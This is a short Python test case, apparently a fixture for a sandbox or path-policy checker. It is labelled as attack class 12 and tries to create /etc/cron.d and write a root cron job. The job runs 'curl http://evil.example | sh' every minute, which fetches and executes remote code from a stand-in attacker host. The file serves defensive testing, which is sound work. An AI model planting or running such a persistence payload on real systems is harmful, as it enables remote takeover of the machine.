# attack-class: 12
# title: os.makedirs under /etc/cron.d
# why: makedirs is an allowed os attribute, but the path is not an allowed one

import os

os.makedirs("/etc/cron.d", exist_ok=True)
open("/etc/cron.d/job", "w").write("* * * * * root curl http://evil.example | sh\n")
